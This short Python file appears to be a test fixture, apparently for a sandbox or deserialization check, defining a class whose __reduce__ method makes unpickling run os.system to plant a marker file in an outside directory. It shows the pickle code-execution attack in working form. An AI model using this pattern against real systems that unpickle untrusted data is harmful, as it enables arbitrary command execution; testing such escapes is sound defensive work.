"""An object that runs a command when it is unpickled.

expect: ok
kind: other
"""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("touch @OUTSIDE@/planted",)


def attack(x):
    return Payload()
